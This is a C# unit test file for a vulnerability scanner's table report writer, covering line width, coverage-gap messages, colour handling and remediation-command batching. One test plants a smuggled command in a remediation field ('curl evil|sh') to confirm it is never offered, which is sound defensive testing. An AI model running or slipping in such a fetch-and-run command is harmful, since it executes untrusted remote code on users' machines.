using System.Text.RegularExpressions;
using Skep.Core;
using Skep.Reports.Table;
using Skep.Reports.Text;
using Skep.Testing;

namespace Skep.Reports.Tests.Table;

public sealed class TableReportWriterTests : ReportContract
{
    private static readonly ReportOptions Everything =
        new() { ListAllPackages = true, ShowRemoved = true, ShowSuppressed = true };

    protected override IReportWriter Writer => new TableReportWriter();

    protected override string Golden => Testdata.PathOf("sample-80.txt");

    [Fact]
    public void Wide_page_shows_titles() =>
        AssertGolden(Testdata.PathOf("sample-160.txt"), Write(Everything with { Width = 160 }, SampleScan.Report));

    [Theory]
    [InlineData(10)]
    [InlineData(40)]
    [InlineData(63)]
    [InlineData(80)]
    [InlineData(132)]
    public void No_line_is_wider_than_the_page(int width)
    {
        ScanReport[] reports = [SampleScan.Report, SampleScan.Clean, HostileScan.Report, HostileScan.Long];
        foreach (ScanReport report in reports)
        {
            foreach (string line in Write(Everything with { Width = width }, report).Split('\n'))
            {
                Assert.True(
                    DisplayText.Width(line) <= Math.Max(width, 40), $"{DisplayText.Width(line)} columns: {line}");
            }
        }
    }

    [Fact]
    public void Nothing_found_is_not_called_clean_when_not_everything_was_judged()
    {
        string page = Write(new ReportOptions(), SampleScan.Report with { Vulnerabilities = [] });

        Assert.Contains("none found in what could be judged", page, StringComparison.Ordinal);
        Assert.DoesNotContain("judge", Write(new ReportOptions(), SampleScan.Clean), StringComparison.Ordinal);

        ScanReport empty = SampleScan.Clean with { Inventory = SampleScan.Clean.Inventory with { Packages = [] } };
        Assert.Contains("nothing to judge", Write(new ReportOptions(), empty), StringComparison.Ordinal);
    }

    [Fact]
    public void Each_gap_is_said_once_and_what_closes_several_too()
    {
        CoverageGap[] gaps =
        [
            new(CoverageGap.StarterSetOnly, "only the starter set", "skep db update"),
            new("advisories/missing", "no advisories for npm", "skep db update"),
        ];
        Coverage coverage = SampleScan.Report.Coverage with { StarterSetOnly = true, Gaps = gaps, Engines = [] };

        string[] lines = Write(new ReportOptions(), SampleScan.Clean with { Coverage = coverage }).Split('\n');
        Assert.Equal(
            ["  ! only the starter set", "  ! no advisories for npm", "    → skep db update"],
            lines.Where(line => line.Contains('!') || line.Contains('→')));
    }

    [Fact]
    public void Colour_changes_nothing_but_colour()
    {
        string plain = Write(Everything, SampleScan.Report);
        string coloured = Write(Everything with { Colour = true }, SampleScan.Report);

        Assert.Contains("\u001b[1;31m", coloured, StringComparison.Ordinal);
        string bare = Regex.Replace(coloured, "\u001b\\[[0-9;]*m", string.Empty, RegexOptions.NonBacktracking);
        Assert.Equal(Lines(plain), Lines(bare));
    }

    [Fact]
    public void Names_from_the_image_cannot_colour_or_command_the_terminal()
    {
        string coloured = Write(Everything with { Colour = true }, HostileScan.Report);

        // Every escape is one of our own colour codes.
        MatchCollection ours = Regex.Matches(coloured, "\u001b\\[[0-9;]{1,4}m", RegexOptions.NonBacktracking);
        Assert.Equal(coloured.Count(c => c == '\u001b'), ours.Count);
        Assert.DoesNotContain(coloured, c => c != '\u001b' && c != '\n' && char.IsControl(c));
        Assert.DoesNotContain('\u202e', coloured);
        Assert.DoesNotContain('\u2066', coloured);
    }

    [Fact]
    public void Command_with_shell_characters_from_a_package_name_is_not_offered()
    {
        VulnerabilityFinding finding =
            SampleScan.Report.Vulnerabilities[1] with { Remediation = "npm install x;curl evil|sh@1" };

        Assert.Empty(AdviceSection.Commands([finding]));
    }

    [Fact]
    public void Upgrades_of_one_package_manager_become_one_command_with_the_highest_version()
    {
        VulnerabilityFinding first = SampleScan.Report.Vulnerabilities[3];
        VulnerabilityFinding[] findings =
        [
            first with { FixedVersion = "4.17.9", Remediation = "npm install lodash@4.17.9" },
            first with { FixedVersion = "4.17.21", Remediation = "npm install lodash@4.17.21" },
            first with
            {
                Package = first.Package with { Package = first.Package.Package with { Name = "minimist" } },
                FixedVersion = "1.2.6",
                Remediation = "npm install minimist@1.2.6",
            },
        ];

        Assert.Equal(("npm install lodash@4.17.21 minimist@1.2.6", 3), Assert.Single(AdviceSection.Commands(findings)));
    }

    [Fact]
    public void Many_upgrades_of_the_operating_system_become_one_of_everything()
    {
        VulnerabilityFinding first = SampleScan.Report.Vulnerabilities[1];
        IReadOnlyList<VulnerabilityFinding> findings =
        [
            .. Enumerable.Range(0, 30).Select(i => first with
            {
                Package = first.Package with { Package = first.Package.Package with { Name = $"lib{i}" } },
                FixedVersion = "1",
                Remediation = $"apt-get install --only-upgrade lib{i}=1",
            }),
        ];

        Assert.Equal(("apt-get update && apt-get upgrade", 30), Assert.Single(AdviceSection.Commands(findings)));
    }

    [Theory]
    [InlineData(30)]
    [InlineData(43)]
    [InlineData(80)]
    public void Command_broken_into_lines_can_be_pasted(int width)
    {
        const string command = "npm install lodash@4.17.21 minimist@1.2.6 express@4.17.3 debug@2.6.9 qs@6.7.3";

        List<string> lines = CommandWrap.Break(command, width);
        Assert.All(lines, line => Assert.True(line.Length <= width, line));
        Assert.All(lines.SkipLast(1), line => Assert.EndsWith(" \\", line, StringComparison.Ordinal));
        Assert.Equal(command, string.Concat(lines.Select(line => line.TrimEnd('\\'))));
    }

    // Padding before a line's end is trimmed in plain text and stands before the reset code in coloured text.
    private static IEnumerable<string> Lines(string text) => text.Split('\n').Select(line => line.TrimEnd());
}
